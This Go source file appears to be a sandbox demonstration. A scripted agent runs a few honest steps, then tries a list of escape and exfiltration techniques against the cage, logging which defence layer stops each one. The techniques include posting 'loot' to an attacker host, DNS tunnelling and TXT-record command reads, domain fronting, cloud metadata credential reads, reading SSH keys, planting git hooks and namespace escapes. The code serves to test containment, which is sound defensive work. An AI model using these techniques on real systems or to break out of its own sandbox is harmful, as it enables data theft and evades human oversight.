package demo

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	mdns "golang.org/x/net/dns/dnsmessage"
)

// patience is how long the agent waits for anything. What is refused is
// refused at once; a step that needs this long has failed.
const patience = 10 * time.Second

// attempt is one line of the script. do returns what the agent saw, and an
// error when it got nowhere.
type attempt struct {
	name, title string
	honest      bool
	layer       string
	do          func(context.Context) (string, error)
}

// script is what the agent does, in order: honest work first, so that nothing
// is taken for stopped that never worked.
var script = []attempt{
	{"api", "call the API that it was given, over HTTPS", true, "-", callAPI},
	{"api-direct", "the same with a client that ignores HTTP_PROXY", true, "-", callAPIDirectly},
	{"write", "write a file in the project", true, "-", writeFile},

	{"forbidden-host", "POST the loot to a host that is not listed", false, "gateway: domain", postToEvil},
	{"raw-socket", "open a TCP connection to the attacker's port", false, "network namespace", dialPort("203.0.113.7")},
	{"host-port", "connect to a server on the host's loopback", false, "network namespace", dialPort("127.0.0.1")},
	{"not-http", "send bytes that are no HTTP to port 443", false, "gateway: protocol", rawTo443},
	{"dns-tunnel", "put the loot into the labels of a DNS query", false, "gateway: DNS", tunnelDNS},
	{"dns-txt", "read commands from a TXT record", false, "gateway: DNS", readTXT},
	{"fronting", "name the API in SNI and the attacker in Host", false, "gateway: identity", frontHost},
	{"ip-literal", "CONNECT to the attacker by address", false, "gateway: domain", postToAddress},
	{"metadata", "ask the cloud's metadata address for credentials", false, "gateway: domain", readMetadata},
	{"quic", "send the loot by UDP, as QUIC would", false, "network namespace", sendUDP},
	{"icmp", "open a raw socket", false, "seccomp", rawSocket},
	{"ssh-key", "read ~/.ssh", false, "mount namespace", readKey},
	{"git-hook", "plant a git hook that the host runs later", false, "read-only guard", plantHook},
	{"git-swap", "move .git away and bring another with a hook", false, "read-only guard", swapGit},
	{"namespace", "become root in a namespace of its own", false, "seccomp", unshare},
	{"kill-gateway", "find the gateway among the processes", false, "pid namespace", findGateway},
}

// Agent plays the script inside of the cage and reports each step as a line
// of JSON.
func Agent(out io.Writer) error {
	enc := json.NewEncoder(out)
	for _, a := range script {
		ctx, cancel := context.WithTimeout(context.Background(), patience)
		outcome, err := a.do(ctx)
		cancel()
		s := Step{Name: a.name, Title: a.title, Honest: a.honest, Worked: err == nil, Outcome: outcome, Layer: a.layer}
		if err != nil {
			s.Outcome = err.Error()
		}
		if err := enc.Encode(s); err != nil {
			return err
		}
	}
	return nil
}

func apiURL() string { return os.Getenv("DEMO_API") }

func evilPort() string { return os.Getenv("DEMO_EVIL_PORT") }

// client honours HTTP_PROXY and SSL_CERT_FILE as any program does.
func client() *http.Client {
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyFromEnvironment, DisableKeepAlives: true}}
}

// directClient goes wherever DNS says.
func directClient() *http.Client {
	return &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
}

func callAPI(ctx context.Context) (string, error) {
	return post(ctx, client(), apiURL(), "honest work")
}

func callAPIDirectly(ctx context.Context) (string, error) {
	return post(ctx, directClient(), apiURL(), "honest work")
}

// post returns the answer, and an error unless it is a success.
func post(ctx context.Context, c *http.Client, to, body string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, to, strings.NewReader(body))
	if err != nil {
		return "", err
	}
	return send(c, req)
}

func send(c *http.Client, req *http.Request) (string, error) {
	res, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer res.Body.Close()
	answer, err := io.ReadAll(io.LimitReader(res.Body, 4096))
	if err != nil {
		return "", err
	}
	if res.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%d: %s", res.StatusCode, reasonIn(answer))
	}
	return fmt.Sprintf("%d: %s", res.StatusCode, answer), nil
}

// reasonIn takes the reason out of a refusal.
func reasonIn(answer []byte) string {
	var refusal struct {
		Reason string `json:"reason"`
		ID     string `json:"id"`
	}
	if json.Unmarshal(answer, &refusal) != nil || refusal.Reason == "" {
		return string(answer)
	}
	return refusal.Reason
}

func writeFile(context.Context) (string, error) {
	return "written", os.WriteFile("result.txt", []byte("done\n"), 0o600)
}

func postToEvil(ctx context.Context) (string, error) {
	return post(ctx, client(), "https://"+evilHost+"/collect", Loot)
}

func postToAddress(ctx context.Context) (string, error) {
	return post(ctx, client(), "https://127.0.0.1:"+evilPort()+"/collect", Loot)
}

func readMetadata(ctx context.Context) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://169.254.169.254/latest/meta-data/iam/", nil)
	if err != nil {
		return "", err
	}
	return send(directClient(), req)
}

func dialPort(addr string) func(context.Context) (string, error) {
	return func(ctx context.Context) (string, error) {
		var d net.Dialer
		c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(addr, evilPort()))
		if err != nil {
			return "", errors.Unwrap(err)
		}
		defer c.Close()
		_, err = io.WriteString(c, Loot)
		return "connected", err
	}
}

// rawTo443 has succeeded when somebody answers: that the connection opens
// means nothing, since the gateway is at every address.
func rawTo443(ctx context.Context) (string, error) {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", "203.0.113.7:443")
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience)) // fails only on a closed connection
	if _, err := io.WriteString(c, Loot+"\n"); err != nil {
		return "", err
	}
	answer, err := io.ReadAll(io.LimitReader(c, 512))
	if err != nil || len(answer) == 0 || bytes.Contains(answer, []byte(`"blocked": true`)) || bytes.HasPrefix(answer, []byte("HTTP/1.1 400")) {
		return "", errors.New("closed, and nobody outside was asked")
	}
	return string(answer), nil
}

// tunnelDNS has succeeded when the answer is one that only the attacker's
// server could have given. The attacker's ears are asked as well.
func tunnelDNS(ctx context.Context) (string, error) {
	name := hex.EncodeToString([]byte(Loot)) + "." + evilHost + "."
	answer, err := query(ctx, name, mdns.TypeA)
	if err != nil {
		return "", err
	}
	if strings.Contains(answer, "198.51.100.1") {
		return "", errors.New("answered inside the cage with 198.51.100.1")
	}
	return answer, nil
}

func readTXT(ctx context.Context) (string, error) {
	answer, err := query(ctx, "commands."+evilHost+".", mdns.TypeTXT)
	if err == nil && answer == "" {
		err = errors.New("answered inside the cage, empty")
	}
	return answer, err
}

// query asks a public resolver by hand, as malware does.
func query(ctx context.Context, name string, typ mdns.Type) (string, error) {
	q, err := mdns.NewName(name)
	if err != nil {
		return "", err
	}
	msg := mdns.Message{
		Header:    mdns.Header{ID: 4242, RecursionDesired: true},
		Questions: []mdns.Question{{Name: q, Type: typ, Class: mdns.ClassINET}},
	}
	packet, err := msg.Pack()
	if err != nil {
		return "", err
	}
	var d net.Dialer
	c, err := d.DialContext(ctx, "udp", "8.8.8.8:53")
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience)) // fails only on a closed connection
	if _, err := c.Write(packet); err != nil {
		return "", err
	}
	buf := make([]byte, 1500)
	n, err := c.Read(buf)
	if err != nil {
		return "", err
	}
	return answers(buf[:n])
}

func answers(packet []byte) (string, error) {
	var msg mdns.Message
	if err := msg.Unpack(packet); err != nil {
		return "", err
	}
	var out []string
	for _, rr := range msg.Answers {
		switch body := rr.Body.(type) {
		case *mdns.AResource:
			out = append(out, net.IP(body.A[:]).String())
		default:
			out = append(out, body.GoString())
		}
	}
	return strings.Join(out, " "), nil
}

// frontHost opens TLS to the API and asks for the attacker inside of it.
func frontHost(ctx context.Context) (string, error) {
	u, err := url.Parse(apiURL())
	if err != nil {
		return "", err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, apiURL(), strings.NewReader(Loot))
	if err != nil {
		return "", err
	}
	req.Host = net.JoinHostPort(evilHost, u.Port())
	c := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, TLSClientConfig: &tls.Config{ServerName: apiHost}}}
	return send(c, req)
}

func sendUDP(ctx context.Context) (string, error) {
	var d net.Dialer
	c, err := d.DialContext(ctx, "udp", "203.0.113.7:"+evilPort())
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(patience)) // fails only on a closed connection
	if _, err := io.WriteString(c, Loot); err != nil {
		return "", err
	}
	buf := make([]byte, 16)
	n, err := c.Read(buf)
	return string(buf[:n]), err
}

func rawSocket(context.Context) (string, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
	if err != nil {
		return "", err
	}
	return "opened", syscall.Close(fd)
}

func readKey(context.Context) (string, error) {
	data, err := os.ReadFile(filepath.Join(os.Getenv("DEMO_HOME"), ".ssh", "id_ed25519"))
	if err != nil {
		return "", shortPath(err)
	}
	return string(data), nil
}

func plantHook(context.Context) (string, error) {
	err := os.WriteFile(filepath.Join(".git", "hooks", "pre-commit"), []byte("#!/bin/sh\n"), 0o700)
	return "planted", shortPath(err)
}

func swapGit(context.Context) (string, error) {
	if err := os.Rename(".git", ".git-old"); err != nil {
		return "", shortPath(err)
	}
	if err := os.MkdirAll(filepath.Join(".git", "hooks"), 0o700); err != nil {
		return "", shortPath(err)
	}
	return plantHook(context.Background())
}

func unshare(context.Context) (string, error) {
	c := exec.Command("/proc/self/exe", "--version")
	c.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER | syscall.CLONE_NEWNET}
	err := c.Run()
	return "started a program in namespaces of its own", shortPath(err)
}

// findGateway looks for any process that is neither in this program's line of
// ancestors nor pid 1 of the cage.
func findGateway(context.Context) (string, error) {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return "", err
	}
	self := os.Getpid()
	for _, e := range entries {
		var pid int
		if _, err := fmt.Sscan(e.Name(), &pid); err != nil || pid == 1 || pid == self {
			continue
		}
		return "found process " + e.Name(), nil
	}
	return "", errors.New("only the agent itself and the cage's pid 1 are there")
}

// shortPath leaves the demo's temporary directory out of a message.
func shortPath(err error) error {
	var p *os.PathError
	var l *os.LinkError
	switch {
	case errors.As(err, &p):
		return fmt.Errorf("%s: %w", p.Op, p.Err)
	case errors.As(err, &l):
		return fmt.Errorf("%s: %w", l.Op, l.Err)
	default:
		return err
	}
}
